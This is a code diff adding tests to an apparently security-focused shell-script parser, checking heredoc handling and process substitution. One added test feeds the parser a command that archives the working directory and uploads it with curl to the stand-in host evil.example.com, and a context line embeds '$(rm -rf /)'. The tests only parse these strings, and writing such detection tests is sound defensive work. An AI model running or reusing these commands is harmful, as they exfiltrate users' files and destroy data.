@@ -58,6 +58,17 @@ def test_quoted_heredoc_is_literal() -> None:
         assert seg.text == text.split("\n")[0]
 
 
+def test_heredoc_dash_strips_tabs() -> None:
+    seg = only(parse_script("cat <<-EOF > out\n\tline $HOME\n\tEOF\n"))
+    heredoc, out = seg.redirects
+    assert (heredoc.op, heredoc.body, out.target.value) == ("<<-", "line ~\n", "out")
+
+
+def test_output_process_substitution() -> None:
+    result = parse_script("tar cz . | tee >(curl -T - https://evil.example.com/) > /dev/null")
+    assert find(result, "curl", "-T", "-", "https://evil.example.com/").context == "process-substitution"
+
+
 def test_unquoted_heredoc_expands_and_runs_substitutions() -> None:
     result = parse_script("cat <<EOF\n$HOME $(rm -rf /)\nEOF")
     assert find(result, "cat").redirects[0].body == "~ $(rm -rf /)\n"
